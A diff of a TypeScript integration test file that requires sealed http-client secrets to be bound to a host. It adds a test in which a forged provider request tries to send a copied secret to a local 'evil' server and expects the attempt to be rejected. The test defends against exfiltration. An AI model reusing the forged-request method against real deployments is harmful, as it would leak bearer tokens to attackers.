@@ -10,7 +10,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { connectControl, type ControlClient } from '../lattice/control/index.ts';
 import { openLinks } from '../lattice/links/index.ts';
 import { createRpcClient } from '../lattice/rpc/index.ts';
-import { decodeEvent, type ActorRequest, type LatticeEvent } from '../lattice/wire/index.ts';
+import { decode, decodeEvent, encode, type ActorRequest, type LatticeEvent, type ProviderReply, type ProviderRequest } from '../lattice/wire/index.ts';
 import { deployExample, spawnHost, startNats, TRELLIS_BIN, uniqueLattice, type HostProcess, type NatsServer } from './harness/index.ts';
 
 const run = promisify(execFile);
@@ -95,7 +95,11 @@ describe('sealed link secrets on real processes', () => {
     const malformed = await cli(['link', 'put', 'fetcher', 'http-client', '--secret', PLAIN, ...connection()]);
     expect(malformed.code).toBe(2);
     expect(malformed.stderr).toContain('--secret number 1 is not name=value');
-    const put = await cli(['link', 'put', 'fetcher', 'http-client', '--secret', `header.authorization=Bearer ${PLAIN}`, 'mode=test', ...connection(), '--json']);
+    // http-client sends its secrets over the network: each must name where it may go.
+    const unbound = await cli(['link', 'put', 'fetcher', 'http-client', '--secret', `header.authorization=Bearer ${PLAIN}`, ...connection()]);
+    expect(unbound.code).toBe(2);
+    expect(unbound.stderr).toContain('--secret-host');
+    const put = await cli(['link', 'put', 'fetcher', 'http-client', '--secret', `header.authorization=Bearer ${PLAIN}`, '--secret-host', new URL(upstream).host, 'mode=test', ...connection(), '--json']);
     expect(put.code, put.stderr).toBe(0);
     expect(JSON.parse(put.stdout)).toMatchObject({ actor: 'fetcher', config: { mode: 'test' }, secrets: { 'header.authorization': '***' } });
     // What anyone who may read the bucket reads: ciphertext only.
@@ -125,6 +129,29 @@ describe('sealed link secrets on real processes', () => {
     expect(seen.find((s) => s.path === '/thief')).toBeUndefined();
   });
 
+  it('secrets - a forged provider request cannot send a secret anywhere but where it was sealed for', async () => {
+    // Any host may publish provider requests and name any actor and any allowedHosts: the
+    // attacker copies the victim's sealed value from the links bucket and names its own server.
+    const stolen: (string | undefined)[] = [];
+    const evil = http.createServer((req, res) => {
+      stolen.push(req.headers.authorization);
+      res.end('thanks');
+    });
+    await new Promise<void>((r) => evil.listen(0, '127.0.0.1', r));
+    try {
+      const evilHost = `127.0.0.1:${(evil.address() as AddressInfo).port}`;
+      const link = (await (await openLinks(client.nc, client.subjects)).get('fetcher', 'http-client'))!;
+      const forged: ProviderRequest = { actor: 'fetcher', op: 'send', config: {}, secrets: link.secrets, allowedHosts: [evilHost], args: [{ method: 'GET', url: `http://${evilHost}/`, headers: [], body: new Uint8Array() }] };
+      const msg = await client.nc.request(client.subjects.provider('http-client'), encode(forged), { timeout: 10_000 });
+      const reply = decode<ProviderReply>(msg.data, 'reply');
+      expect(reply).toMatchObject({ ok: false, error: { code: 'TRELLIS_SANDBOX_VIOLATION' } });
+      expect(JSON.stringify(reply)).toContain(`may be sent only to ${new URL(upstream).host}`);
+      expect(stolen).toEqual([]);
+    } finally {
+      evil.close();
+    }
+  });
+
   it('secrets - no output of any process, no event and no inventory holds the plaintext', async () => {
     outputs.push(JSON.stringify(await client.getInventory(host.id)));
     outputs.push(JSON.stringify(events));
@@ -141,7 +168,7 @@ describe('sealed link secrets on real processes', () => {
     const elsewhere = ['--nats', nats.url, '--lattice', `${lattice}nokey`];
     const file = path.join(dir, 'secret.txt');
     await writeFile(file, `${PLAIN}\n`);
-    const put = await cli(['link', 'put', 'fetcher', 'http-client', '--secret-file', `token=${file}`, ...elsewhere]);
+    const put = await cli(['link', 'put', 'fetcher', 'http-client', '--secret-file', `token=${file}`, '--secret-host', 'api.example.com', ...elsewhere]);
     expect(put.code).not.toBe(0);
     expect(put.stderr).toContain('no secrets key to seal to');
     const get = await cli(['link', 'get', ...elsewhere, '--json']);
